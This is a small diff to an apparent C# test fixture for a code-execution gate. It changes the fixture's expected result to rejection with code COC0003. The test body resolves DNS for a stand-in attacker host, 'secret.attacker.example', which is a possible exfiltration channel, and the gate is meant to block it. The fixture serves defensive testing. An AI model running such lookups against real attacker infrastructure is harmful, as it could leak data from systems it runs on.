@@ -1,5 +1,5 @@
 // class: network
-// expected: rejected
-// why: dns addresses; the gate refuses it (COC0003 or a gate check) before anything runs.
+// expected: rejected COC0003
+// why: dns addresses; the gate refuses it (COC0003) before anything runs.
 var a = await System.Net.Dns.GetHostAddressesAsync("secret.attacker.example");
 return 0;
